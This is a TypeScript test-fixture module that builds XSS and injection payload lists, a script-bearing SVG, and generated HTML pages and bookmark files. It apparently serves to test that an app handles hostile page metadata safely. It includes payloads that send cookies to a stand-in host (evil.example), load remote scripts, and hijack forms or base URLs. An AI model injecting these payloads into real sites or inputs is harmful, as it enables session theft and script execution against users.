/** Texts that call `alert` or send a request to a third party where they are interpreted as HTML or code. */
const scripts = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "</title><script>alert(1)</script>",
  "</textarea></style></noscript></xmp><script>alert(1)</script>",
  "--><script>alert(1)</script><!--",
  "]]><script>alert(1)</script>",
  "<script\u0000>alert(1)</script\u0000>",
  "\u003cscript\u003ealert(1)\u003c/script\u003e",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
  "＜script＞alert(1)＜/script＞",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "<script type=module>import('//evil.example/m.js')</script>",
  "<script>fetch('//evil.example/?'+document.cookie)</script>",
];

const handlers = [
  "<img src=x onerror=alert(1)>",
  '<img src=x onerror="alert(1)"//',
  '"><img src=x onerror=alert(1)>',
  "'><img/src=`x`onerror=alert(1)>",
  '" onmouseover="alert(1)" x="',
  "' autofocus onfocus='alert(1)' x='",
  "` onload=`alert(1)`",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)//",
  "<svg><script>alert&#40;1&#41;</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text x=20 y=20>X</text></a></svg>",
  "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<object data='data:text/html,<script>alert(1)</script>'></object>",
  "<embed src='//evil.example/e.swf'>",
  "<form action=//evil.example><button>Sign in</button></form>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example/'>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<img src=//evil.example/pixel.gif>",
];

const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  "<template><script>alert(1)</script></template>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
];

const addresses = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " \u0001javascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "javascript&colon;alert(1)",
  "&#106;avascript:alert(1)",
  "javascript://%0aalert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
  "[click](javascript:alert(1))",
  "![x](//evil.example/x.png)",
  "<javascript:alert(1)>",
];

const templates = [
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "#{alert(1)}",
  "<%= alert(1) %>",
  "{%for x in y%}alert(1){%endfor%}",
  "__proto__",
  "constructor",
  "';alert(1);//",
  "\\';alert(1);//",
  "\u2028alert(1)\u2029",
];

const styles = [
  "<style>*{background:url(//evil.example/b)}</style>",
  "<div style='position:fixed;inset:0;z-index:9999;background:red'>covered</div>",
  "x;background:url(javascript:alert(1))",
  "</style><style>@import '//evil.example/i.css'</style>",
  "expression(alert(1))",
];

/** Texts that move, hide or break their neighbours. */
const layout = [
  "\u202Egnp.exe moc.knab\u202C",
  "\u2067\u202Eright to left, never closed",
  "\u202D\u202E\u2066\u2067\u2068 all of them open",
  "عنوان باللغة العربية (2024) – example.com",
  "כותרת בעברית! abc 123",
  "\u200B\u200C\u200D\uFEFF\u2060\u00AD",
  "\u200B",
  `Z${"\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308".repeat(12)}algo`,
  "W".repeat(280),
  "w\u00A0".repeat(140),
  "﷽".repeat(60),
  "👩‍👩‍👧‍👦".repeat(25),
  `line\nbreak\r\n\ttab${"\n".repeat(100)}end`,
  "\u001B[31mred\u001B[0m \u0007 \u0000",
];

/** A polyglot of many contexts (like that of 0xSobky, but our own). */
const polyglot =
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e";

export const hostileTexts: readonly string[] = [
  ...scripts,
  ...handlers,
  ...mutations,
  ...addresses,
  ...templates,
  ...styles,
  ...layout,
  polyglot,
];

const escaped = (text: string): string => text.replace(/[&<>"']/g, (character) => `&#${character.codePointAt(0)};`);

/** A picture that runs a script where it is opened as a document. */
export const HOSTILE_SVG =
  "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)' width='100' height='100'><script>alert(1)</script>" +
  "<image href='//evil.example/in-svg.png'/><foreignObject><body onload='alert(1)'/></foreignObject></svg>";

/** The number of pages that have every text once, as title or description, and of one with a title of a megabyte. */
export const HOSTILE_PAGES = Math.ceil(hostileTexts.length / 2) + 1;

/**
 * A page with two hostile texts in title, description, author, tags and JSON-LD. They are escaped, so that all of them are
 * read, or not (`raw`), so that they end their elements.
 */
export function hostilePage(number: number, raw: boolean): string {
  const text = hostileTexts[number * 2] ?? "A".repeat(1024 * 1024);
  const about = hostileTexts[number * 2 + 1] ?? "B".repeat(1024 * 1024);
  const write = raw ? (plain: string) => plain : escaped;
  const linked = JSON.stringify({ "@type": "Article", headline: text, description: about, keywords: text });
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${write(text)}</title>
<meta property="og:title" content="${write(text)}"><meta name="description" content="${write(about)}">
<meta property="og:site_name" content="${write(text)}"><meta name="author" content="${write(about)}">
<meta name="keywords" content="${write(text.slice(0, 40))},plain">
<meta property="og:image" content="/hostile.svg"><link rel="icon" type="image/svg+xml" href="/hostile.svg">
<link rel="icon" href="http://127.0.0.1:1/icon.png"><link rel="shortcut icon" href="javascript:alert(1)">
<script type="application/ld+json">${linked.replaceAll("</", "<\\/")}</script></head><body><h1>${write(text)}</h1></body></html>`;
}

/** A file of bookmarks with every text as title, description and tag, and with addresses that are not of the web. */
export function hostileBookmarks(site: string): string {
  const entry = (url: string, text: string): string =>
    `<DT><A HREF="${escaped(url)}" TAGS="${escaped(text.slice(0, 40).replaceAll(",", " "))}" ICON_URI="//evil.example/i.ico">` +
    `${escaped(text)}</A>\n<DD>${escaped(text)}`;
  const kept = hostileTexts.map((text, n) =>
    entry(`${site}/imported/${n}?q=${encodeURIComponent(text.slice(0, 30))}`, text),
  );
  const skipped = addresses.map((address) => entry(address, "An address that is none"));
  return `<!DOCTYPE NETSCAPE-Bookmark-file-1>\n<DL><p>\n${[...kept, ...skipped].join("\n")}\n</DL><p>`;
}
